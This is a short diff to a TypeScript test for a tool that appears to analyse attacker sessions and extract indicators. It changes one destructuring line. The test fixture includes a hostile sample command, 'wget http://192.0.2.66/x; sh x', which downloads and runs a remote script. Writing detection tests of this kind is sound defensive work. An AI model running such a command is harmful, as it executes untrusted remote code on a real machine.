@@ -64,7 +64,7 @@ describe('a session', () => {
   it('is the same told again: what is remembered changes nothing', () => {
     const acts = ['uname -a', 'wget http://192.0.2.66/x; sh x'];
     const [first, second] = tell([[acts], [acts]]);
-    const { session: _a, behaviours: _b, indicators: one, ...rest } = first!;
+    const { session: _a, behaviours: _b, acts: _c, indicators: one, ...rest } = first!;
     expect(second).toMatchObject(rest);
     expect(second!.indicators.map(({ value }) => value)).toEqual(one.map(({ value }) => value));
   });
